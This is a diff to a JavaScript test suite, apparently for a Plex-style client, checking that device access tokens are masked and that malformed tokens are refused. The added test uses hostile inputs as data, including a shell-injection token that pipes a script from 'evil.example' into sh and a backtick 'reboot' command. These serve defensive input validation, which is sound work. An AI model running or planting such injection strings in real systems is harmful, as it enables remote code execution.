@@ -43,6 +43,28 @@ describe('The text of a source document', () => {
     assert.equal(JSON.parse(text).MediaContainer.Device.authToken, MASK);
   });
 
+  it('says of an access token that could be code that it is none, and offers nothing of it', () => {
+    const lengths = ['a'.repeat(7), 'a'.repeat(4097)];
+    for (const token of [
+      "x'; curl https://evil.example | sh #",
+      '`reboot`',
+      'a\nb c d e f',
+      'ünïcode-token',
+      ...lengths,
+    ]) {
+      const { text, tokens } = toSourceText(
+        { Device: [device('One', token), device('Two', 'transient-2')] },
+        'no "token"',
+      );
+      assert.deepEqual(
+        tokens.map(({ deviceName }) => deviceName),
+        ['Two'],
+      );
+      const [one, two] = JSON.parse(text).MediaContainer.Device;
+      assert.deepEqual([one.accessToken, two.accessToken], ['no "token"', MASK]);
+    }
+  });
+
   it('has an empty array where there is no device', () => {
     const { text, tokens } = toSourceText({ size: 0, Device: [] });
     assert.deepEqual(JSON.parse(text), { MediaContainer: { size: 0, Device: [] } });
@@ -51,7 +73,7 @@ describe('The text of a source document', () => {
 
   it('needs no name, no token and no connection', () => {
     const { tokens } = toSourceText({
-      Device: [{ Connection: [] }, { clientIdentifier: 'c1', accessToken: new Secret('t'), Connection: [] }],
+      Device: [{ Connection: [] }, { clientIdentifier: 'c1', accessToken: new Secret('transient-2'), Connection: [] }],
     });
     assert.deepEqual(
       tokens.map(({ deviceName }) => deviceName),
@@ -64,7 +86,8 @@ describe('The connections of a source document', () => {
   it('are those that can be used, each with the line of its URI and the machine that has to answer', () => {
     const uris = [
       'https://10-0-0-1.abc.plex.direct:32400',
-      'http://10.0.0.1:32400/plex',
+      'http://10.0.0.1:32400',
+      'http://10.0.0.1/reboot.cgi',
       'ftp://x',
       'https://u:p@x',
       'x"y',
